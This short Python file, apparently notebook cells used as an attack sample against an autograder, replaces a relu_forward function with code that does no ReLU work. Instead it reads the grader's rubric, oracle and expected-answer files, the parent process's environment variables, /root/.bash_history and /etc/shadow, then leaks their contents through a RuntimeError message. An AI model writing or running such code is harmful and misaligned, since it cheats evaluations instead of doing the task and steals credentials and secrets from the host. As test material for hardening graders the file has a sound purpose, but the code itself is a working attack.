# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack: read the grader's files and the machine's secrets from relu_forward, and put what
# was read in an error message.


# --- cell: relu_forward
import json
import os
import sys


def _try_read(path):
    try:
        with open(path, "rb") as f:
            return "read: " + f.read(200).decode("latin1")
    except Exception as exc:
        return f"failed: {type(exc).__name__}"


def relu_forward(x):
    here = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
    paths = [os.path.join(here, name) for name in ("rubric.toml", "oracle.py", "checks.py",
                                                   "reference.py", "inputs.py")]
    repo = os.path.dirname(here)
    paths += [os.path.join(repo, name) for name in (
        "tests/corpus_two_layer/correct/expected.toml",
        "source/two_layer_net/two_layer_net.ipynb", ".git/HEAD")]
    paths += [f"/proc/{os.getppid()}/environ", "/root/.bash_history", "/etc/shadow"]
    raise RuntimeError(json.dumps({p: _try_read(p) for p in paths}))
